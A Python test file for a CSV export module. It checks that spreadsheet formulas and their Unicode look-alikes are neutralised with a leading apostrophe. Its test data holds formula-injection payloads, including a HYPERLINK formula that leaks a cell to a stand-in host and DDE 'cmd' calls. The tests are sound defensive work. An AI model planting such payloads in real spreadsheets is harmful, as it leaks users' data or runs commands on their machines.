"""A CSV export is data and nothing else, for spreadsheets and programs."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backfill.exports.csv_form import Csv, inert
from backfill.ledger.rows import ExportRow, OutcomeRow
from backfill.lifecycle import ItemStatus
from backfill.message import MailboxKey, MessageRef
from backfill.verdict import Scores

#: What spreadsheets run, with the look-alikes that East Asian input methods and converters make of it.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫1",
    "⁼1",
    "⁺1",
    "⁻1",
    "−1+1",
    '=HYPERLINK("http://evil.example/"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
HARMLESS = [
    "Ada <ada@example.com>",
    "a=b",
    "INBOX/2024-01",
    "'quoted' <q@example.com>",
    "",
    "12",
    "É",
    "a\nb",
    'say "a", b',
]


def row(**values: object) -> ExportRow:
    outcome = OutcomeRow(
        id=1,
        job_id=1,
        ref=MessageRef(MailboxKey("owner@example.org", "INBOX", 7), 11),
        message_key="ab12",
        sent_at=datetime(2019, 1, 2, tzinfo=UTC),
        received_at=None,
        status=ItemStatus.DONE,
        reason=None,
        scores=Scores.of(importance=9, spam=0),
        category=None,
        why="",
        model="a/model",
        labels=("important",),
        tokens=720,
        cost_nano=123,
        latency_us=1_500_000,
        run_uuid="1-2-3",
        at=datetime(2024, 5, 3, tzinfo=UTC),
        supersedes=False,
    )
    return replace(ExportRow(outcome, "Ada <ada@example.com>", "", 2048, superseded=False), **values)  # type: ignore[arg-type]


def written(*rows: ExportRow, scores: tuple[str, ...] = ("importance", "spam")) -> bytes:
    target = io.BytesIO()
    form = Csv(target, scores)
    form.add(rows)
    form.close()
    return target.getvalue()


def read(table: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table.decode("utf-8"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe(formula: str) -> None:
    (found,) = read(written(row(sender=formula)))

    assert found["sender"] == f"'{formula}"


def test_the_well_known_attack_that_ends_its_quotes_runs_in_neither_cell() -> None:
    (found,) = read(written(row(sender='=1+1";=1+1')))

    assert found["sender"] == "'=1+1\";'=1+1"


@pytest.mark.parametrize("between", [";", "; ", "\t", "|", "\n", "\r\n"], ids=ascii)
def test_a_formula_behind_a_sign_at_which_a_spreadsheet_may_part_cells_is_none(between: str) -> None:
    (found,) = read(written(row(sender=f"Ada{between}=HYPERLINK(1)")))

    assert found["sender"].startswith("Ada")
    assert re.split(r"[;\t\r\n|]", found["sender"])[-1].startswith("'")


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_other_texts_are_as_they_are(text: str) -> None:
    (found,) = read(written(row(sender=text)))

    assert found["sender"] == text


def test_numbers_times_and_truth_are_never_changed() -> None:
    (found,) = read(written(row()))

    numbers = ("job", "uidvalidity", "uid", "importance_score", "spam_score", "tokens", "cost_usd", "latency_s", "size")
    assert [found[name] for name in numbers] == ["1", "7", "11", "9", "0", "720", "0.000000123", "1.5", "2048"]
    assert (found["sent_at"], found["received_at"]) == ("2019-01-02T00:00:00.000000Z", "")
    assert (found["supersedes"], found["labels"]) == ("false", "important")


def test_a_name_of_a_score_that_is_a_formula_is_no_formula_in_the_header() -> None:
    header = written(row(), scores=("=cmd", "spam")).decode().split("\r\n")[0].split(",")

    assert ("'=cmd_score" in header, "spam_score" in header, "=cmd_score" in header) == (True, True, False)


def test_lines_end_as_rfc_4180_says_and_no_mark_stands_before_the_first() -> None:
    table = written(row(), row())

    assert table.startswith(b"job,account,")
    assert (table.count(b"\r\n"), table.count(b"\n")) == (3, 3)


@given(text=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_what_is_written_is_read_back_and_begins_no_formula(text: str) -> None:
    (found,) = read(written(row(sender=text, list_id=text)))

    assert found["sender"] == found["list_id"]
    assert found["sender"].replace("'", "") == text.replace("'", "")
    assert found["sender"] in (text, f"'{text}") or re.search(r"[;\t\r\n|]", text)
    assert not inert(text).lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
